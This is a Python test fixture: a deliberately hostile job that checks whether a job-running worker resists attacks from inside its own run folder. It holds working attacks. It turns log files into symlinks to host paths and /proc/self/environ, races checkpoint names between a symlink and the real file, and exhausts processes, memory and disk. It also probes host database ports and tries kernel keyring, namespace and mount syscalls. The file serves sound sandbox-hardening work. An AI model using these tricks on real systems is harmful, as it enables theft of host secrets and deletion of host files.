"""A hostile job that attacks the worker through its own run folder (contract §7 v3).

The worker runs outside the sandbox, usually as root; everything here is something a rank may
do to its own folder, aimed at making the worker read, upload or delete a host path. No torch
import: it starts fast. BREAK says which attack; BREAK_TARGET a host path (the admin token, a
canary folder) the rank cannot see itself but names in a link, for the worker to follow.

- logs:        its stdout.log and stderr.log become links to BREAK_TARGET and /proc/self/environ,
               then it fails (exit 3), so the worker also looks for an error to quote
- tmp:         /job/tmp and a link in its TMPDIR point at BREAK_TARGET (a folder to delete)
- checkpoints: each checkpoint name flips between a link to BREAK_TARGET and the real file
               (the same inode, so a watcher that lists then opens by name is raced)
- fifo:        its logs and events file become fifos, then it sleeps well past its time limit
- pids:        forks 400 sleeping processes (past a process limit of 200)
- memory:      fills /dev/shm, then its heap, past its memory limit
- network:     connects to each `host:port` of BREAK_TARGET (the host's PostgreSQL, Redis, a
               socket the test listens on): prints `NETWORK {json}`, "connected" or the error
- disk:        writes 300 MB under its HOME and sleeps (past a disk limit of 100 MB)
- uid:         prints `UID uid gid name`
- kernel:      leaves a key in the kernel's keyrings, makes a user namespace (`unshare -Ur`),
               mounts: prints `KERNEL {json}` of what each gave
"""

from __future__ import annotations

import glob
import os
import sys
import time

ATTACK = os.environ["BREAK"]
TARGET = os.environ.get("BREAK_TARGET", "/nonexistent")
RUN = "/job"


def own_logs() -> list[str]:
    """This rank's stdout.log and stderr.log, once torchrun has made them."""
    for _ in range(100):
        found = sorted(glob.glob(f"{RUN}/logs/*/attempt_*/0/std*.log"))
        if len(found) == 2:
            return found
        time.sleep(0.05)
    raise SystemExit("no log files found")


def swap(path: str, make) -> None:
    os.unlink(path)
    make(path)


def logs() -> None:
    stdout, stderr = sorted(own_logs(), reverse=True)  # stdout.log, stderr.log
    print("before the swap", flush=True)
    swap(stdout, lambda p: os.symlink(TARGET, p))
    swap(stderr, lambda p: os.symlink("/proc/self/environ", p))
    time.sleep(2)
    sys.exit(3)


def tmp() -> None:
    os.symlink(TARGET, f"{RUN}/tmp")
    os.symlink(TARGET, os.path.join(os.environ["TMPDIR"], "out"))
    print("links made", flush=True)


def checkpoints() -> None:
    folder = os.environ["TORCHJOBS_CHECKPOINT_DIR"]
    for n in range(1, 4):
        real, name = f"{folder}/.real-{n}", f"{folder}/epoch-{n}.pt"
        with open(real, "wb") as fh:
            fh.write(f"real checkpoint {n}\n".encode() * 100)
        os.link(real, name)
        deadline = time.monotonic() + 2.0
        while time.monotonic() < deadline:  # the name flips between a link out and the real file
            os.symlink(TARGET, f"{folder}/.lnk")
            os.replace(f"{folder}/.lnk", name)
            os.link(real, f"{folder}/.hard")
            os.replace(f"{folder}/.hard", name)
    print("checkpoints raced", flush=True)


def fifo() -> None:
    for path in own_logs():
        swap(path, os.mkfifo)
    events = os.environ["TORCHJOBS_EVENTS"]
    if os.path.exists(events):
        os.unlink(events)
    os.mkfifo(events)
    time.sleep(600)


def pids() -> None:
    for i in range(400):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError as exc:
            print(f"fork {i} refused: {exc}", flush=True)
            sys.exit(1)
    time.sleep(600)


def memory() -> None:
    with open("/dev/shm/fill", "wb") as fh:
        for _ in range(64):
            fh.write(b"x" * 16 * 1024 * 1024)
    hoard = [bytearray(16 * 1024 * 1024) for _ in range(256)]
    print("never here", len(hoard), flush=True)


def kernel() -> None:
    import ctypes
    import json
    import subprocess

    libc = ctypes.CDLL(None, use_errno=True)
    numbers = {"x86_64": (248, 165), "aarch64": (217, 40)}[os.uname().machine]

    def call(nr: int, *args: object) -> int:
        ctypes.set_errno(0)
        libc.syscall(nr, *args)
        return ctypes.get_errno()

    found = {
        "add_key": call(numbers[0], b"user", b"left-for-the-next-job", b"secret", 6, ctypes.c_long(-4)),
        "mount": call(numbers[1], b"none", b"/tmp", b"tmpfs", 0, 0),
        "unshare -Ur": subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode,
    }
    print("KERNEL " + json.dumps(found), flush=True)


def network() -> None:
    import json
    import socket

    found = {}
    for target in TARGET.split(","):
        host, port = target.rsplit(":", 1)
        try:
            with socket.create_connection((host, int(port)), timeout=3):
                found[target] = "connected"
        except OSError as exc:
            found[target] = f"{exc.__class__.__name__}: {exc}"
    print("NETWORK " + json.dumps(found), flush=True)


def disk() -> None:
    home = os.environ["HOME"]
    for i in range(30):
        with open(f"{home}/fill-{i}", "wb") as fh:
            fh.write(os.urandom(10 * 1024 * 1024))
    time.sleep(600)


def uid() -> None:
    import getpass

    print(f"UID {os.getuid()} {os.getgid()} {getpass.getuser()}", flush=True)


ATTACKS = {
    "disk": disk,
    "uid": uid,
    "network": network,
    "kernel": kernel,
    "logs": logs,
    "tmp": tmp,
    "checkpoints": checkpoints,
    "fifo": fifo,
    "pids": pids,
    "memory": memory,
}
ATTACKS[ATTACK]()
